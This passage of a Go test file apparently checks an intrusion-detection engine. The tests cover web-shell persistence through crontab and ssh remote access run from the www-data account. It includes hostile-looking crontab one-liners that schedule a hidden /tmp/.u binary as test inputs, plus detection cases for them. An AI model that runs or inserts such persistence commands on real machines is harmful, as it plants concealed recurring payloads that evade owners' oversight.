	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"crontab -l | { cat; echo '*/5 * * * * /tmp/.u'; } | crontab -", true},
		{"echo '* * * * * /tmp/.u' > /tmp/ct; crontab /tmp/ct", true},
		{"crontab -l; ls /tmp/.u", false}, // listing installs nothing
	} {
		e, s := webShellScene(t)
		e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree)
		s.t = s.t.Add(time.Minute)
		s.exec(600, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
		s.exec(601, 600, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "/tmp/.u")
		f := findingOf(e.Observe(s.exec(602, 601, 33, "www-data", "/var/www", "/tmp/.u", "/tmp/.u"), s.tree), RulePlantedFileRun)
		if (f != nil) != c.want {
			t.Errorf("%q: planted-file-run on the job's run %v, want %v", c.cmd, f != nil, c.want)
		}
	}
}

// TestClientVersionQuery: ssh asked for its version by the web account
// (a web shell's look at which tools exist) reaches nobody; ssh -v,
// verbose, connects and is remote access.
func TestClientVersionQuery(t *testing.T) {
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"ssh", "-V"}, false},
		{[]string{"/usr/bin/ssh", "--version"}, false},
		{[]string{"ssh", "-v", "deploy@127.0.0.1"}, true},
		{[]string{"ssh", "-V", "deploy@127.0.0.1"}, true},
	} {
		e, s := webShellScene(t)
		f := findingOf(e.Observe(s.exec(203, 202, 33, "www-data", "/var/www", "/usr/bin/ssh", c.args...), s.tree), "lateral-remote-access-from-web")
		if got := f != nil; got != c.want {
			t.Errorf("%q: finding %v, want %v", c.args, got, c.want)
		}
	}
}
